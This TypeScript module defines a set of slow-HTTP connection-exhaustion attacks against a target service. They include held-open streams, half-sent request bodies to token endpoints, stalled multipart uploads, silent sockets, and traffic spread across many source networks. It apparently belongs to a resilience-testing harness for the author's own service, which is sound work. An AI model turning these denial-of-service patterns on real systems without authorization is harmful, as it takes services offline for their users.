import { type Aim, type Beginnings, bearer, get, networksOf } from './aim.js';
import { cut, hold, requestOf } from './sockets.js';

const half = (path: string, head = ''): string =>
  requestOf('POST', path, { body: '{"email":"', length: 1_000, head });

/** Many that are held open, or opened and closed. */
export const connectionAttacks = (aim: Aim) =>
  ({
    'live streams': () => hold(aim.traffic(512, () => get('/api/live'), aim.from(4))),
    'half-sent bodies': () => hold(aim.traffic(600, () => half('/user/token/'), aim.from(2))),
    'half-sent bodies, straight': () =>
      hold(
        aim.traffic(2_500, () => half('/user/token/'), {
          port: aim.servicePort,
          from: networksOf(aim.network, 2),
        }),
      ),
    'half-sent bodies, many networks': () =>
      hold(aim.traffic(1_200, () => half('/user/token/refresh/'), aim.from(40))),
    'half-sent uploads': () =>
      hold(
        aim.traffic(
          600,
          () =>
            requestOf('POST', '/api/upload_file/', {
              length: 5_000_000,
              body: '--b\r\n',
              head: bearer(aim.staffToken),
            }).replace('application/json', 'multipart/form-data; boundary=b'),
          aim.from(2),
        ),
      ),
    'cut bodies': () =>
      cut(
        aim.traffic(300, () => half('/user/token/')),
        5,
      ),
    'silent sockets': () => hold(aim.traffic(3_000, () => '', aim.from(8))),
    connections: () =>
      cut(
        aim.traffic(256, () => get('/')),
        0,
      ),
  }) satisfies Partial<Beginnings>;
